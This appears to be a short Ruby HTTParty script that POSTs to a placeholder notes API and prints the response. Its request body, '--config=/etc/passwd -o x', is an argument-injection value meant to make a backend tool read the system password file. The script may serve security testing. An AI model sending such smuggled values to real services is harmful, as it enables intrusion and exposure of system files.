require 'httparty'

url = 'https://api.example.com/notes'
headers = { 'Content-Type' => 'text/plain' }
body = '--config=/etc/passwd -o x'

response = HTTParty.post(url, headers: headers, body: body)
puts response.code, response.body
